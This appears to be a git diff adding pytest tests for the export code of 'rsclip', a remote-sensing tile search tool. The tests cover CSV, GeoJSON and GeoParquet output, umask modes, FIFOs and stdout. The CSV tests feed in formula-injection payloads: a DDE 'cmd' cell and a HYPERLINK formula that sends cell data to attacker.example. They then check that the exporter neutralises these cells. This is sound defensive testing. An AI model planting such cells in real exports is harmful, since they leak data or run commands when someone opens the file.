@@ -3,7 +3,13 @@ DuckDB's spatial extension, CSV with WKT; geometries are the windows' true footp
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import os
+import stat
+import subprocess
+import sys
 from pathlib import Path
 
 import duckdb
@@ -22,7 +28,7 @@ from rsclip.detect.pipeline import DetectConfig, run_detection
 from rsclip.errors import InvalidInput, NotFound
 from rsclip.search import export as ex
 from tests.helpers.geo import LANDSAT, NAIP, scene_grid_table
-from tests.helpers import GEOTIFF_DIR
+from tests.helpers import GEOTIFF_DIR, spread_files, write_scene_table
 from tests.geo.test_footprints import corners_wgs84
 
 
@@ -182,3 +188,137 @@ def test_review_of_many_detections_reads_their_tiles_in_one_scan_alike(scenes, m
     assert by_id.drop(columns=[tiles.FOOTPRINT]).equals(scanned.drop(columns=[tiles.FOOTPRINT]))
     with pytest.raises(InvalidInput, match="not valid SQL"):
         rsclip.review_detections(db, "fields", where="no_such_column = 1")
+
+
+# Cells a spreadsheet would run (OWASP's CSV injection list: = + - @ tab carriage return).
+FORMULAS = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]
+NOTE = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
+
+
+@pytest.fixture(scope="module")
+def chips(tmp_path_factory, tiny_model, rsicd_files):
+    """Six RSICD chips without georeference whose STAC item ids are formulas, labelled with a formula as note."""
+    db = tmp_path_factory.mktemp("chips") / "db"
+    files = spread_files(rsicd_files, len(FORMULAS))
+    write_scene_table(db, tiny_model, files, item_id=FORMULAS)
+    ids = [tiles.tile_id(str(f), 0, 0, 150, 150) for f in files]
+    labels.add_labels(db, "odd", ids[:3], ids[3:], note=NOTE)
+    return db, ids
+
+
+def csv_rows(path: Path) -> list[dict]:
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.DictReader(f))
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_geojson_and_geoparquet_keep_them(chips, tmp_path):
+    import geopandas as gpd
+
+    db, ids = chips
+    for name in ("odd.csv", "odd.geojson", "odd.parquet"):
+        assert ex.export_labels(db, "odd", str(tmp_path / name)).rows == len(ids)
+    rows = csv_rows(tmp_path / "odd.csv")
+    assert sorted(r["item_id"] for r in rows) == sorted("'" + f for f in FORMULAS)
+    assert {r["note"] for r in rows} == {"'" + NOTE}
+    for row in rows:  # no text cell of any column starts a formula (value is a number: -1 stays -1)
+        assert not any(v.startswith(ex.FORMULA_STARTS) for k, v in row.items() if k != "value"), row
+    assert {r["value"] for r in rows} == {"1", "-1"}  # numbers stay numbers
+    features = json.loads((tmp_path / "odd.geojson").read_text())["features"]
+    for frame in (pd_of(features), gpd.read_parquet(tmp_path / "odd.parquet")):
+        assert sorted(frame["item_id"]) == sorted(FORMULAS) and set(frame["note"]) == {NOTE}
+
+
+def pd_of(features: list[dict]):
+    import pandas as pd
+
+    return pd.DataFrame([f["properties"] for f in features])
+
+
+def test_csv_bytes_neutralises_every_text_column_and_nothing_else():
+    import pandas as pd
+
+    frame = pd.DataFrame({"uri": ["=cmd", "s3://b/k", "-x"], "id": ["@a", "b", "+c"], "score": [-1.5, 0.5, 2.0],
+                          "n": [-3, 4, 5], "empty": [None, "", "\r\n"], "cr": ["a\rb", "\r", "c\nd"]})
+    back = list(csv.DictReader(io.StringIO(ex.csv_bytes(frame).decode("utf-8"), newline="")))
+    assert [r["uri"] for r in back] == ["'=cmd", "s3://b/k", "'-x"]
+    assert [r["id"] for r in back] == ["'@a", "b", "'+c"]
+    assert [r["score"] for r in back] == ["-1.5", "0.5", "2.0"] and [r["n"] for r in back] == ["-3", "4", "5"]
+    assert [r["empty"] for r in back] == ["", "", "'\r\n"]
+    assert [r["cr"] for r in back] == ["a\rb", "'\r", "c\nd"]  # quoted: a line break never splits a row
+    assert frame["uri"].tolist() == ["=cmd", "s3://b/k", "-x"]  # the caller's frame is left as it was
+
+
+def test_dissolve_of_tiles_without_footprints_says_why(chips, tmp_path, capsys):
+    db, ids = chips
+    out = tmp_path / "chips.geojson"
+    assert main(["export", str(db), "--query", "farmland", "-k", "6", "--out", str(out)]) == 0
+    assert pyogrio.read_info(out)["features"] == 6
+    assert main(["export", str(db), "--query", "farmland", "-k", "6", "--dissolve", "--out",
+                 str(tmp_path / "merged.geojson")]) == 2
+    err = capsys.readouterr().err
+    assert "none of the 6 matched tiles has a footprint" in err and "without dissolving" in err
+    assert "no tile matched" not in err and not (tmp_path / "merged.geojson").exists()
+
+
+def test_the_cli_names_its_own_format_flag(chips, tmp_path, capsys):
+    db, ids = chips
+    for argv in (["export", str(db), "--query", "farmland"], ["label", "export", str(db), "odd"]):
+        for out in ("x.shp", "-"):
+            assert main([*argv, "--out", str(tmp_path / out) if out != "-" else out]) == 2
+            err = capsys.readouterr().err
+            assert "pass --format one of geojson, geoparquet, csv" in err and "format=" not in err, err
+    with pytest.raises(InvalidInput, match="pass format= one of"):  # the library names its keyword
+        ex.export_labels(db, "odd", str(tmp_path / "x.shp"))
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o027, 0o640), (0o077, 0o600)])
+def test_exports_get_the_mode_the_umask_gives(chips, tmp_path, umask, mode):
+    db, ids = chips
+    out = tmp_path / "shared" / "odd.geojson"
+    old = os.umask(umask)
+    try:
+        ex.export_labels(db, "odd", str(out))
+        ex.export_labels(db, "odd", str(out))  # a replaced export too
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE(out.stat().st_mode) == mode
+    assert [p.name for p in out.parent.iterdir()] == ["odd.geojson"]  # no temporary file left
+
+
+def test_an_export_to_a_fifo_feeds_it(chips, tmp_path):
+    db, ids = chips
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader is there: the export's open does not wait
+    try:
+        result = ex.export_labels(db, "odd", str(fifo), format="geojson")  # small: fits the pipe's buffer
+        got = os.read(reader, 1 << 20)
+    finally:
+        os.close(reader)
+    assert result.rows == len(ids) and len(json.loads(got)["features"]) == len(ids)
+    assert stat.S_ISFIFO(fifo.lstat().st_mode) and os.listdir(tmp_path) == ["pipe"]  # not replaced by a file
+
+
+def test_out_dev_stdout_writes_into_the_redirected_file(chips, tmp_path):
+    db, ids = chips
+    target = tmp_path / "out.geojson"
+    target.write_bytes(b"")
+    inode = target.stat().st_ino
+    code = "import sys; from rsclip.app.cli import main; sys.exit(main(sys.argv[1:]))"
+    with open(target, "wb") as stdout:  # one launch: a fresh interpreter imports torch
+        done = subprocess.run([sys.executable, "-c", code, "label", "export", str(db), "odd", "--format", "geojson",
+                               "--out", "/dev/stdout"], stdout=stdout, stderr=subprocess.PIPE, text=True,
+                              timeout=600, env={**os.environ, "RUST_LOG": "error"})
+    assert done.returncode == 0, done.stderr
+    assert target.stat().st_ino == inode and [p.name for p in tmp_path.iterdir()] == ["out.geojson"]
+    assert len(json.loads(target.read_bytes())["features"]) == len(ids)  # the summary went to stderr
+    assert f"{len(ids)} labelled tiles written to /dev/stdout" in done.stderr
+
+
+def test_out_dash_writes_to_stdout(chips, capfd):
+    db, ids = chips
+    assert main(["label", "export", str(db), "odd", "--format", "csv", "--out", "-"]) == 0
+    captured = capfd.readouterr()
+    assert len(list(csv.DictReader(io.StringIO(captured.out)))) == len(ids)
+    assert "labelled tiles written" in captured.err
